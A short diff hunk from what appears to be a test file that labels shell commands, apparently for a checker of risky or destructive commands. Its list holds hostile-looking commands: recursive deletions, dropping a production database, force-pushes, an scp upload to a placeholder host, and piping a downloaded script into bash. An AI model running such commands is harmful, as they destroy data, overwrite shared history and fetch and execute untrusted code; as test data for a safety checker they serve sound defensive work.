@@ -118,6 +118,7 @@ REAL = [
     ("rm -rf ~/photos/2021 && dropdb prod && git push -f", True),
     ("git push --force origin main", True),
     ("sudo rm -rf /var/log/x", False),
+    ("scp build.tgz me@host.example:", False),
     ("curl https://x.example/i.sh | bash", False),
     ("rm -rf ~/photos/*", False),
 ]
